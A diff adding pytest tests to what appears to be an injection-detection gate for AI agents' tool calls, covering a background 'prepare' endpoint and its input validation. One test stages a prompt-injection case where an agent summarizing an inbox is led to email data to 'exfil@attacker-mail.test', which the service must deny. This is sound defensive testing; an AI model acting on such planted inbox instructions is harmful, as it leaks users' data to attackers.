@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import time
+from typing import Any
+
 from tests.conftest import Server
 
 EMAIL_OK = {"to": "bob@example.com", "subject": "Your order", "body": "It ships tomorrow."}
@@ -158,3 +161,71 @@ def test_a_tool_result_that_is_not_text_fails_closed(server: Server) -> None:
                                       "context": {"messages": messages}}).json()
     assert d["verdict"] == "deny" and d["reasons"][0]["code"] == "INJECTION_SUSPECTED"
     assert "unreadable" in d["reasons"][0]["message"]
+
+
+def _provenance(server: Server) -> Any:
+    return next(c for c in server.svc.pipeline.checks if c.name == "provenance")
+
+
+def _settled(server: Server) -> None:
+    """Wait (bounded) until no preparation is in flight."""
+    deadline = time.monotonic() + 10
+    while server.svc.pipeline._ahead and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert server.svc.pipeline._ahead == 0
+
+
+def test_prepare_analyses_the_history_ahead_and_the_check_decides_the_same(server: Server) -> None:
+    """POST /v1/check/prepare answers 202 at once and analyses the conversation in the background; the /v1/check
+    with that history then finds it analysed, and decides, records and traces exactly as without it."""
+    from tests.pipeline.test_provenance import _conversation
+    from tests.proxykit import seed_assistant
+
+    seed_assistant(server.svc)
+    agent_id, key = server.add_agent(allowlist="assistant")
+    check = _provenance(server)
+    body = {"tool": "send_email", "arguments": {"to": "exfil@attacker-mail.test", "subject": "list", "body": "x"},
+            "context": {"conversation_id": "conv-p", "messages": _conversation("Summarize my inbox.")}}
+    decided = []
+    with server.agent_client(key) as c:
+        for ahead in (False, True):
+            check._conversations.clear()
+            check.analyser._cache.clear()
+            before = server.admin.get("/v1/audit", params={"limit": 1000}).json()["records"]
+            if ahead:
+                r = c.post("/v1/check/prepare", json={"context": body["context"]})
+                assert r.status_code == 202 and r.json() == {"started": True}
+                _settled(server)
+                [conv] = check._conversations.values()
+                assert "carriers" in conv.memo  # judged ahead: the inbox carries instructions
+                assert len(server.admin.get("/v1/audit", params={"limit": 1000}).json()["records"]) == len(before)
+            d = c.post("/v1/check", json=body).json()
+            assert len(check._conversations) == 1  # with the prepared one: the check built no other
+            decided.append({k: d[k] for k in ("verdict", "reasons", "provenance", "flags")})
+    assert decided[0] == decided[1]
+    assert decided[1]["verdict"] == "deny" and decided[1]["reasons"][0]["code"] == "INJECTION_SUSPECTED"
+    records = server.admin.get("/v1/audit", params={"agent": agent_id, "kind": "check"}).json()["records"]
+    assert len(records) == 2  # the two checks; preparing records nothing
+
+
+def test_bad_prepare_requests_are_refused_and_prepare_nothing(server: Server) -> None:
+    _, key = server.add_agent()
+    check = _provenance(server)
+    check._conversations.clear()
+    limit = server.svc.settings.max_history_messages
+    with server.agent_client(key) as c:
+        for body, code in (
+                ({}, "INVALID_REQUEST"),  # no context
+                ({"context": {"conversation_id": "c"}}, "INVALID_REQUEST"),  # nothing to prepare
+                ({"context": {"messages": []}}, "INVALID_REQUEST"),
+                ({"context": {"messages": [{"role": "robot", "content": "x"}]}}, "INVALID_REQUEST"),
+                ({"context": {"messages": "not a list"}}, "INVALID_REQUEST"),
+                ({"context": {"messages": [{"role": "user", "content": "hi"}]}, "tool": "x"}, "INVALID_REQUEST"),
+                ({"context": {"messages": [{"role": "user", "content": "hi"}] * (limit + 1)}}, "HISTORY_TOO_LARGE")):
+            r = c.post("/v1/check/prepare", json=body)
+            assert r.status_code == 400 and r.json()["error"]["code"] == code, (body, r.text)
+    with server.agent_client("arb_not-a-key") as c:
+        r = c.post("/v1/check/prepare", json={"context": {"messages": [{"role": "user", "content": "hi"}]}})
+        assert r.status_code == 401 and r.json()["error"]["code"]
+    _settled(server)
+    assert not check._conversations
